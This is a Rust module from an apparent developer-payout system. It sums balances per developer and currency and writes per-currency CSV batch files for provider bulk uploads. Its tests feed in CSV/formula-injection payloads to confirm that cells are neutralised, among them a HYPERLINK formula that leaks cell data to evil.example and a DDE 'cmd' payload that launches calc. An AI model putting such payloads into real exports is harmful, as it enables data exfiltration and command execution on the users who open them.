//! Developer payouts as finance reads them: what each developer is owed per currency (the
//! payable balances of `store::payouts::payable`, summed per developer and currency, never
//! across currencies) and, per provider, what a batch would take; and the batch files a
//! provider's bulk upload takes — one file per currency, each line naming the payout (its
//! payment transaction id, which `payout mark-sent` takes), every cell safe for a spreadsheet.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use crate::domain::{Currency, Money, PayoutMethod, sanitize_line, spreadsheet_safe};
use crate::service::payouts::Payout;
use crate::store::payouts::Payable;
use crate::store::{Conn, StoreError};

/// The columns of a batch file, in order.
pub const HEADER: [&str; 7] = [
    "payout_id",
    "reference",
    "name",
    "method",
    "account",
    "amount",
    "currency",
];

/// What one developer is owed in one currency.
#[derive(Clone, Debug, PartialEq)]
pub struct Owed {
    pub developer_id: i64,
    pub developer_name: String,
    pub currency: String,
    /// Minor units of `currency`.
    pub amount: i64,
    /// Each project's part: (project id, minor units).
    pub projects: Vec<(i64, i64)>,
    pub payout_method: Option<String>,
    /// The provider that pays this developer out (None: no usable payout method).
    pub provider: Option<&'static str>,
}

/// The provider that pays out by `method` (bank transfers go through CinetPay).
pub fn provider_of(method: Option<&str>) -> Option<&'static str> {
    method
        .and_then(|m| PayoutMethod::parse(m).ok())
        .map(PayoutMethod::provider)
}

/// The payable balances per project summed per developer and currency, in the order they come
/// (developers by name).
pub fn owed(rows: &[Payable]) -> Vec<Owed> {
    let mut out: Vec<Owed> = Vec::new();
    let mut at: BTreeMap<(i64, String), usize> = BTreeMap::new();
    for r in rows {
        let key = (r.developer_id, r.currency.clone());
        match at.get(&key) {
            Some(&i) => {
                let o = &mut out[i];
                o.amount += r.amount;
                o.projects.push((r.project_id, r.amount));
            }
            None => {
                at.insert(key, out.len());
                out.push(Owed {
                    developer_id: r.developer_id,
                    developer_name: r.developer_name.clone(),
                    currency: r.currency.clone(),
                    amount: r.amount,
                    projects: vec![(r.project_id, r.amount)],
                    payout_method: r.payout_method.clone(),
                    provider: provider_of(r.payout_method.as_deref()),
                });
            }
        }
    }
    out
}

/// What every developer is owed now, per currency (at most `limit` project balances read).
pub async fn owed_now(c: &mut impl Conn, limit: u64) -> Result<Vec<Owed>, StoreError> {
    Ok(owed(&crate::store::payouts::payable(c, limit).await?))
}

/// What a batch through one provider would take in one currency: one payout per developer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ProviderOwed {
    pub provider: &'static str,
    pub currency: String,
    pub payouts: usize,
    /// Minor units of `currency`.
    pub total: i64,
}

/// The batches that could be made now, by provider then currency (never two currencies
/// summed). Developers without a usable payout method are in none.
pub fn per_provider(owed: &[Owed]) -> Vec<ProviderOwed> {
    let mut by: BTreeMap<(&'static str, String), (usize, i64)> = BTreeMap::new();
    for o in owed {
        if let Some(p) = o.provider {
            let e = by.entry((p, o.currency.clone())).or_default();
            e.0 += 1;
            e.1 += o.amount;
        }
    }
    by.into_iter()
        .map(|((provider, currency), (payouts, total))| ProviderOwed {
            provider,
            currency,
            payouts,
            total,
        })
        .collect()
}

/// A batch file was asked for one currency and given a payout in another.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MixedCurrencies {
    pub expected: String,
    pub found: String,
    pub payment_id: i64,
}

impl fmt::Display for MixedCurrencies {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "a batch file holds one currency: payout #{} is in {}, the file in {}",
            self.payment_id, self.found, self.expected
        )
    }
}

impl std::error::Error for MixedCurrencies {}

/// A cell as a spreadsheet may open it: one line, no terminal controls, and never read as a
/// formula (`=HYPERLINK(…)` arrives as the text `'=HYPERLINK(…)`).
fn cell(text: &str) -> String {
    spreadsheet_safe(&sanitize_line(text)).into_owned()
}

/// The batch file of the payouts in `currency` a provider's bulk upload takes: a header, then
/// one line per payout (its id, reference, name, method, account, amount as files write it,
/// currency). A payout in another currency is refused: one file never mixes two.
pub fn batch_file(currency: &str, payouts: &[Payout]) -> Result<String, MixedCurrencies> {
    if let Some(p) = payouts.iter().find(|p| p.currency != currency) {
        return Err(MixedCurrencies {
            expected: currency.to_owned(),
            found: p.currency.clone(),
            payment_id: p.payment_id,
        });
    }
    let mut w = csv::Writer::from_writer(Vec::new());
    let mut lines = vec![HEADER.map(str::to_owned).to_vec()];
    for p in payouts {
        let amount = Currency::parse(&p.currency)
            .map(|c| Money::new(p.amount, c).plain())
            .unwrap_or_else(|_| p.amount.to_string());
        lines.push(vec![
            p.payment_id.to_string(),
            p.reference.clone(),
            p.developer_name.clone(),
            p.payout_method.clone().unwrap_or_default(),
            p.payout_account.clone().unwrap_or_default(),
            amount,
            p.currency.clone(),
        ]);
    }
    for line in lines {
        // Writing into memory cannot fail.
        let _ = w.write_record(line.iter().map(|c| cell(c)));
    }
    let bytes = w.into_inner().unwrap_or_default();
    Ok(String::from_utf8(bytes).unwrap_or_default())
}

/// The payouts of a batch per currency, currencies in order.
pub fn by_currency(payouts: &[Payout]) -> BTreeMap<String, Vec<Payout>> {
    let mut out: BTreeMap<String, Vec<Payout>> = BTreeMap::new();
    for p in payouts {
        out.entry(p.currency.clone()).or_default().push(p.clone());
    }
    out
}

/// `PO-wave-20261123-090000-XOF.csv`: the batch and the currency (once), in characters every
/// file system takes.
pub fn file_name(batch: &str, currency: &str) -> String {
    let safe = |s: &str| -> String {
        s.chars()
            .map(|c| match c {
                'A'..='Z' | 'a'..='z' | '0'..='9' | '-' | '_' => c,
                _ => '_',
            })
            .collect()
    };
    // A batch made for one currency already names it (`PO-wave-XOF-…`).
    match batch.contains(&format!("-{currency}-")) {
        true => format!("{}.csv", safe(batch)),
        false => format!("{}-{}.csv", safe(batch), safe(currency)),
    }
}

/// One batch file written: its currency, where, how many payouts and their total.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Written {
    pub currency: String,
    pub path: PathBuf,
    pub payouts: usize,
    /// Minor units of `currency`.
    pub total: i64,
}

/// Writes the batch's files into `dir` (created if needed), one per currency.
pub fn write(dir: &Path, batch: &str, payouts: &[Payout]) -> std::io::Result<Vec<Written>> {
    std::fs::create_dir_all(dir)?;
    let mut out = Vec::new();
    for (currency, ps) in by_currency(payouts) {
        let text = batch_file(&currency, &ps).map_err(std::io::Error::other)?;
        let path = dir.join(file_name(batch, &currency));
        std::fs::write(&path, text)?;
        out.push(Written {
            total: ps.iter().map(|p| p.amount).sum(),
            payouts: ps.len(),
            currency,
            path,
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payout(id: i64, name: &str, account: &str, amount: i64, currency: &str) -> Payout {
        Payout {
            payment_id: id,
            developer_id: id * 10,
            developer_name: name.into(),
            amount,
            currency: currency.into(),
            reference: format!("PO-wave-20261123-090000-{id:03}"),
            payout_method: Some("wave".into()),
            payout_account: Some(account.into()),
        }
    }

    fn read(text: &str) -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn hostile_names_and_accounts_never_reach_a_spreadsheet_as_formulas() {
        let hostile = [
            payout(
                1,
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")",
                "+221 77 000 00 01",
                450_000,
                "XOF",
            ),
            payout(2, "=cmd|' /C calc'!A0", "@SUM(A1:A9)", 1_000, "XOF"),
            payout(3, "-2+3", "\u{1b}[31mred\u{7}", 7, "XOF"),
            payout(4, "Moussa\nDiallo", "\t=1+1", 12, "XOF"),
        ];
        let text = batch_file("XOF", &hostile).unwrap();
        let header: Vec<String> = text
            .lines()
            .next()
            .unwrap()
            .split(',')
            .map(Into::into)
            .collect();
        assert_eq!(header, HEADER);
        let rows = read(&text);
        assert_eq!(rows.len(), 4, "one line per payout: {text}");
        for row in &rows {
            for c in row {
                assert!(
                    !c.starts_with(['=', '+', '@', '\t', '\r']),
                    "{c:?} would be read as a formula"
                );
                assert!(!c.chars().any(char::is_control), "{c:?}");
            }
        }
        assert_eq!(rows[0][0], "1", "the payout id comes first");
        assert_eq!(
            rows[0][2],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")"
        );
        assert_eq!(rows[0][4], "'+221 77 000 00 01");
        assert_eq!(rows[0][5], "450000");
        assert_eq!(rows[1][2], "'=cmd|' /C calc'!A0");
        assert_eq!(rows[1][4], "'@SUM(A1:A9)");
        assert_eq!(rows[2][2], "'-2+3");
        assert_eq!(rows[3][2], "Moussa Diallo", "one line");
        assert!(rows.iter().all(|r| r[6] == "XOF"));
    }

    #[test]
    fn one_currency_per_file() {
        let mixed = [
            payout(1, "Awa", "+221", 450_000, "XOF"),
            payout(2, "Jean", "FR76", 12_050, "EUR"),
        ];
        assert_eq!(
            batch_file("XOF", &mixed),
            Err(MixedCurrencies {
                expected: "XOF".into(),
                found: "EUR".into(),
                payment_id: 2
            })
        );
        let split = by_currency(&mixed);
        assert_eq!(split.keys().collect::<Vec<_>>(), ["EUR", "XOF"]);
        let eur = batch_file("EUR", &split["EUR"]).unwrap();
        assert_eq!(read(&eur)[0][5], "120.50", "EUR has two decimals");

        let dir = tempfile::tempdir().unwrap();
        let written = write(dir.path(), "PO-wave-20261123-090000", &mixed).unwrap();
        let names: Vec<String> = written
            .iter()
            .map(|w| w.path.file_name().unwrap().to_string_lossy().into_owned())
            .collect();
        assert_eq!(
            names,
            [
                "PO-wave-20261123-090000-EUR.csv",
                "PO-wave-20261123-090000-XOF.csv"
            ]
        );
        assert_eq!((written[1].payouts, written[1].total), (1, 450_000));
        assert_eq!(file_name("../x y", "XOF"), "___x_y-XOF.csv");
    }

    #[test]
    fn owed_is_summed_per_developer_and_currency_never_across() {
        let row = |dev: i64, project: i64, currency: &str, amount: i64| Payable {
            developer_id: dev,
            developer_name: format!("Dev {dev}"),
            project_id: project,
            currency: currency.into(),
            amount,
            payout_method: Some(if dev == 1 { "bank" } else { "wave" }.into()),
            payout_account: None,
        };
        let rows = [
            row(1, 10, "XOF", 100),
            row(1, 11, "XOF", 50),
            row(1, 12, "EUR", 7),
            row(2, 20, "XOF", 30),
        ];
        let o = owed(&rows);
        assert_eq!(o.len(), 3);
        assert_eq!((o[0].currency.as_str(), o[0].amount), ("XOF", 150));
        assert_eq!(o[0].projects, [(10, 100), (11, 50)]);
        assert_eq!(o[0].provider, Some("cinetpay"));
        assert_eq!((o[1].currency.as_str(), o[1].amount), ("EUR", 7));
        let p = per_provider(&o);
        assert_eq!(
            p.iter()
                .map(|p| (p.provider, p.currency.as_str(), p.payouts, p.total))
                .collect::<Vec<_>>(),
            [
                ("cinetpay", "EUR", 1, 7),
                ("cinetpay", "XOF", 1, 150),
                ("wave", "XOF", 1, 30)
            ]
        );
    }
}
